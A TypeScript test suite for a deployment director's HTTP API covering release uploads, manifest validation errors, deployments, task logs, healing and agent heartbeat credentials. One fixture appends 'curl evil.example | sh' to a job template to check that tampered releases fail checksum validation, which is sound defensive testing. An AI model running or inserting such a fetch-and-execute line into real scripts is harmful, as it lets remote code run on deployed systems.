import { cpSync, readFileSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import Fastify from 'fastify';
import type { FastifyInstance } from 'fastify';
import { c as createTar } from 'tar';
import { afterEach, describe, expect, it } from 'vitest';
import { parse } from 'yaml';
import { directorApi, directorApiPrefix } from '../../lifecycle/index.js';
import { dummyDirector, etcdManifest, etcdReleaseDir, repoRoot, tmp } from './support.js';
import type { DummyRig } from './support.js';

let rig: DummyRig;
let app: FastifyInstance;
const routes: { method: string; url: string }[] = [];

async function setup(): Promise<void> {
  rig = dummyDirector();
  app = Fastify();
  routes.length = 0;
  app.addHook('onRoute', (r) => {
    for (const m of [r.method].flat()) if (m !== 'HEAD') routes.push({ method: m, url: r.url });
  });
  await app.register(directorApi, { prefix: directorApiPrefix, director: rig.director });
  await app.ready();
}

afterEach(async () => {
  await app.close();
  await rig.close();
});

const P = directorApiPrefix;

describe('director API', () => {
  it('documents exactly the routes it serves (docs/openapi/lifecycle.yaml)', async () => {
    await setup();
    const doc = parse(readFileSync(join(repoRoot, 'docs/openapi/lifecycle.yaml'), 'utf8')) as { paths: Record<string, Record<string, unknown>> };
    const documented = Object.entries(doc.paths)
      .flatMap(([path, ops]) => Object.keys(ops).filter((k) => k !== 'parameters').map((m) => `${m.toUpperCase()} ${path}`))
      .sort();
    const served = routes.map((r) => `${r.method} ${r.url.slice(P.length).replace(/:(\w+)/g, '{$1}')}`).sort();
    expect(served).toEqual(documented);
    const res = await app.inject({ method: 'GET', url: `${P}/openapi.yaml` });
    expect(res.statusCode).toBe(200);
    expect(res.body).toContain('openapi: 3.1.0');
  });

  it('uploads a release tarball, refuses the same version twice and anything that is not a tarball', async () => {
    await setup();
    const chunks: Buffer[] = [];
    for await (const c of createTar({ gzip: true, cwd: etcdReleaseDir, portable: true }, ['.'])) chunks.push(Buffer.from(c as Uint8Array));
    const body = Buffer.concat(chunks);
    // The rig uploaded etcd/1 already: same version again is a conflict.
    const dup = await app.inject({ method: 'POST', url: `${P}/releases`, payload: body, headers: { 'content-type': 'application/gzip' } });
    expect(dup.statusCode).toBe(409);
    expect(dup.json()).toEqual({ error: { code: 'conflict', message: 'release etcd/1 is already uploaded; bump its version' } });
    const junk = await app.inject({ method: 'POST', url: `${P}/releases`, payload: Buffer.from('junk'), headers: { 'content-type': 'application/gzip' } });
    expect(junk.statusCode).toBe(400);
    expect(junk.json().error.message).toMatch(/not a readable tarball|release\.yml is missing/);
    const text = await app.inject({ method: 'POST', url: `${P}/releases`, payload: 'x', headers: { 'content-type': 'text/plain' } });
    expect(text.statusCode).toBe(415);
    // A release whose files do not match the checksums in its release.yml is refused, naming the item.
    const t = tmp('tampered');
    try {
      cpSync(etcdReleaseDir, t.dir, { recursive: true });
      writeFileSync(join(t.dir, 'release.yml'), readFileSync(join(t.dir, 'release.yml'), 'utf8').replace('version: 1', 'version: 2'));
      writeFileSync(join(t.dir, 'jobs/etcd/templates/run.sh.tpl'), `${readFileSync(join(t.dir, 'jobs/etcd/templates/run.sh.tpl'), 'utf8')}\ncurl evil.example | sh\n`);
      const parts: Buffer[] = [];
      for await (const c of createTar({ gzip: true, cwd: t.dir, portable: true }, ['.'])) parts.push(Buffer.from(c as Uint8Array));
      const tampered = await app.inject({ method: 'POST', url: `${P}/releases`, payload: Buffer.concat(parts), headers: { 'content-type': 'application/gzip' } });
      expect(tampered.statusCode).toBe(400);
      expect(tampered.json().error.message).toMatch(/^release: jobs\/etcd does not match its checksum in release\.yml/);
    } finally {
      t.cleanup();
    }
    const list = await app.inject({ method: 'GET', url: `${P}/releases` });
    expect(list.json()).toMatchObject([{ name: 'etcd', version: '1', jobs: ['etcd'], inUseBy: [] }]);
  });

  it.each([
    ['a bad manifest', 'POST', '/deployments', { manifest: 'name: etcd\nreleases: 3\n' }, 400, /^manifest is invalid: releases \(line 2, col 11\): Invalid input: expected array, received number/],
    ['an unknown body field', 'POST', '/deployments', { manifest: 'x', force: true }, 400, /body: Unrecognized key: "force"/],
    ['an unknown deployment', 'GET', '/deployments/nope/instances', undefined, 404, /deployment nope does not exist/],
    ['a bad task id', 'GET', '/tasks/abc', undefined, 400, /id: expected a task number/],
    ['an unknown task', 'GET', '/tasks/99', undefined, 404, /task 99 does not exist/],
    ['a heal without a reason', 'POST', '/deployments/etcd/heal', { instance: 'etcd/0', action: 'recreate' }, 400, /body\.reason: Invalid input/],
    ['a heal of a malformed instance', 'POST', '/deployments/etcd/heal', { instance: 'etcd', action: 'restart', reason: 'r' }, 400, /body\.instance: an instance like "etcd\/0"/],
    ['an unknown action', 'POST', '/deployments/etcd/instances/actions', { action: 'reboot' }, 400, /body\.action: Invalid option/],
    ['a heartbeat without the agent credential', 'POST', '/agents/a1/heartbeat', { agent_id: 'a1', job_state: 'running', processes: [], spec_hash: null }, 401, /agent "a1": send Authorization: Bearer/],
  ] as const)('answers %s with a precise error', async (_n, method, url, payload, status, want) => {
    await setup();
    const res = await app.inject({ method, url: `${P}${url}`, ...(payload !== undefined ? { payload } : {}) });
    expect(res.statusCode).toBe(status);
    expect(res.json().error.message).toMatch(want);
  });

  it('deploys, lists instances and follows the task log', async () => {
    await setup();
    const res = await app.inject({ method: 'POST', url: `${P}/deployments`, payload: { manifest: etcdManifest({ instances: 2 }), deployment: 'etcd' } });
    expect(res.statusCode).toBe(202);
    const id = res.json().task_id as number;
    expect((await rig.director.waitTask(id)).state).toBe('done');
    const events = (await app.inject({ method: 'GET', url: `${P}/tasks/${id}/events?after=3` })).json() as { seq: number }[];
    expect(events[0]?.seq).toBe(4);
    const inst = (await app.inject({ method: 'GET', url: `${P}/deployments/etcd/instances` })).json() as Record<string, unknown>[];
    expect(inst.map((i) => i['instance'])).toEqual(['etcd/0', 'etcd/1']);
    for (const i of inst) expect(Object.keys(i)).toEqual(expect.arrayContaining(['instance', 'process_state', 'vm_cid', 'ips']));
    const tasks = (await app.inject({ method: 'GET', url: `${P}/tasks?recent=5` })).json() as { id: number }[];
    expect(tasks.map((t) => t.id)).toEqual([id]);
    const heal = await app.inject({ method: 'POST', url: `${P}/deployments/etcd/heal`, payload: { instance: 'etcd/1', action: 'restart', reason: 'alert X' } });
    expect(heal.statusCode).toBe(202);
    expect((await rig.director.waitTask(heal.json().task_id as number)).state).toBe('done');
    // An agent heartbeats with its own credential; its body must name the same agent.
    const vm = [...rig.cpi.vms.values()][0];
    if (vm === undefined) throw new Error('no VM');
    const headers = { authorization: `Bearer ${vm.secret}` };
    const beat = await app.inject({ method: 'POST', url: `${P}/agents/${vm.agentId}/heartbeat`, headers, payload: { agent_id: vm.agentId, job_state: 'running', processes: [], spec_hash: null } });
    expect(beat.statusCode).toBe(204);
    const other = await app.inject({ method: 'POST', url: `${P}/agents/${vm.agentId}/heartbeat`, headers, payload: { agent_id: 'a2', job_state: 'running', processes: [], spec_hash: null } });
    expect(other.json().error.message).toMatch(/does not match the URL's agent/);
  });
});
